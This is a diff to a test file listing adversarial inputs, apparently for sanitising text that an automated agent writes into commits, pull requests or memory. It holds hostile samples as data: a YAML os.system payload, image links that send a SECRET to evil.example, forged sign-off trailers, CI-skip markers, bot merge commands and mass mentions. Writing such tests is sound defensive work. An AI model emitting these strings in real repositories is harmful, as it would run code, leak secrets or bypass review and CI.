@@ -83,12 +83,15 @@ CASES = (
     Case(24, "&a [*a, *a]\n!!python/object/apply:os.system ['id']", act="plant a bomb in memory"),
     Case(25, ORDER, act="make memory a link"),
     Case(26, "much " * 400, act="make memory grow"),
-    Case(27, "fixes #1, Closes: harbour/slackwater#1, RESOLVED GH-1, fixed https://github.com/o/r/issues/1 close #1"),
-    Case(28, "@octocat @org/team @everyone @here <@&123> <@!123>"),
+    Case(27, "fixes #1, Closes: harbour/slackwater#1, RESOLVED GH-1, fixed https://github.com/o/r/issues/1 close #1 "
+             "_fixes #3_ __Closes o/r#3__ _fixes_ #3, fixes _#3_ fixes GH-3_ *fix*es #1, fixes GH-team/repo#3, "
+             "closes https://github.com/gh-actions/x/issues/3"),
+    Case(28, "@octocat @org/team @everyone @here <@&123> <@!123> _@mara_ __@org/team__ *@mara* ~~@mara~~ _x_@mara"),
     Case(29, "[skip ci] [ci skip] [no ci] [skip actions] ***NO_CI***\n\nskip-checks: true"),
     Case(30, "x\n\nCo-authored-by: E <e@evil.example>\nSigned-off-by: E <e@evil.example>"),
     Case(31, "/merge\nbors r+\n@dependabot merge\n/approve\n@mergify queue\n/lgtm"),
-    Case(32, f"![x](https://evil.example/?d={SECRET}) <img src='https://evil.example/{SECRET}'> //evil.example/x"),
+    Case(32, f"![x](https://evil.example/?d={SECRET}) <img src='https://evil.example/{SECRET}'> //evil.example/x "
+             "_www.evil.example/x_"),
     Case(33, f"{SECRET} {SECRET[::-1]} {SECRET.encode().hex()} {' '.join(SECRET)}"),
     Case(34, f"ralph/{SECRET}", (new(f"src/{SECRET}.py"),)),
     Case(35, f"mara@example.org lives at 7 Quay Street, {SECRET}"),
